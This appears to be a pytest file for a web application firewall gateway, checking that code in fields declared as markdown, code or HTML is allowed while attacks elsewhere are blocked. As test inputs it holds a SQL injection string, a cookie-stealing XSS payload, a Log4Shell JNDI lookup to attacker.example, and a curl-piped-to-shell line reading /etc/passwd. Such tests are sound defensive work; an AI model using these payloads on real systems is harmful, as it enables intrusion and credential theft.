"""Content-aware inspection through a real gateway: the OpenAPI document (or the route's
``waf.content``) says which body fields hold markdown, code or HTML."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.support.gateway import GatewayProcess, base_config, http_call
from tests.support.upstream import RecordingUpstream

SPEC = """\
openapi: 3.1.0
info: {title: desk, version: "1"}
paths:
  /tickets:
    post:
      requestBody:
        required: true
        content:
          application/json: {schema: {$ref: "#/components/schemas/Ticket"}}
      responses:
        "200": {description: ok}
components:
  schemas:
    Ticket:
      type: object
      required: [subject]
      properties:
        subject: {type: string, maxLength: 200}
        description: {type: string, x-dijk-content: markdown}
        page: {type: string, contentMediaType: text/html}
        attachments:
          type: array
          items: {type: string, format: code}
"""

TICKET = """The nightly export fails:

```sql
SELECT id, name FROM accounts WHERE iban = 'NL91ABNA0417164300'
UNION SELECT id, name FROM archived_accounts;
```

The log shows `x' UNION SELECT password FROM users--` as the failing input."""
ATTACK = "x' UNION SELECT password FROM users--"


def post(gateway: GatewayProcess, path: str, body: Any) -> tuple[int, dict[str, Any]]:
    headers = {"Content-Type": "application/json"}
    status, _, problem = http_call(gateway.port, "POST", path, json.dumps(body).encode(), headers)
    return status, problem


@pytest.fixture
def gateway(
    start_gateway: Callable[..., GatewayProcess], upstream: RecordingUpstream, tmp_path: Path
) -> GatewayProcess:
    (tmp_path / "desk.openapi.yaml").write_text(SPEC)
    config = base_config(upstream.port)
    config["routes"] = [
        {
            "name": "desk",
            "match": {"path_prefix": "/tickets"},
            "upstream": "echo",
            "openapi": {"spec": "../desk.openapi.yaml", "mode": "enforce"},
            "waf": {"mode": "block"},
        },
        {
            "name": "wiki",
            "match": {"path_prefix": "/wiki"},
            "upstream": "echo",
            "waf": {"mode": "block", "content": {"$.body": "markdown"}},
        },
        {"name": "plain", "match": {"path_prefix": "/plain"}, "upstream": "echo", "waf": {}},
    ]
    return start_gateway(config)


def test_a_ticket_with_fenced_sql_in_its_markdown_description_reaches_the_upstream(
    gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    body = {
        "subject": "Export broken",
        "description": TICKET,
        "page": "<p>Run <code>cat /etc/hosts; SELECT 1 FROM dual</code></p>",
        "attachments": ["#!/bin/sh\ncurl -s http://localhost:8080/x | sh -c 'cat /etc/passwd'"],
    }
    status, problem = post(gateway, "/tickets", body)
    assert status == 200, problem
    assert len(recording.requests) == 1


@pytest.mark.parametrize(
    "body",
    [
        {"subject": ATTACK, "description": TICKET},
        {"subject": "ok", "description": ATTACK},
        {"subject": "ok", "page": "<img src=x onerror=alert(document.cookie)>"},
        {"subject": "ok", "attachments": ["log('${jndi:ldap://attacker.example/a}')"]},
    ],
)
def test_attacks_outside_declared_code_are_refused(
    gateway: GatewayProcess, recording: RecordingUpstream, body: dict[str, Any]
) -> None:
    status, problem = post(gateway, "/tickets", body)
    assert status == 403, problem
    assert problem["reason"].startswith("waf.")
    assert recording.requests == []


def test_a_route_declares_markdown_fields_without_an_openapi_document(
    gateway: GatewayProcess, recording: RecordingUpstream
) -> None:
    status, problem = post(gateway, "/wiki/pages", {"title": "Export", "body": TICKET})
    assert status == 200, problem
    status, problem = post(gateway, "/wiki/pages", {"title": ATTACK, "body": TICKET})
    assert (status, problem["reason"]) == (403, "waf.sqli")
    # undeclared, the same body is inspected fully
    status, problem = post(gateway, "/plain/pages", {"title": "Export", "body": TICKET})
    assert (status, problem["reason"]) == (403, "waf.sqli")
    assert len(recording.requests) == 1
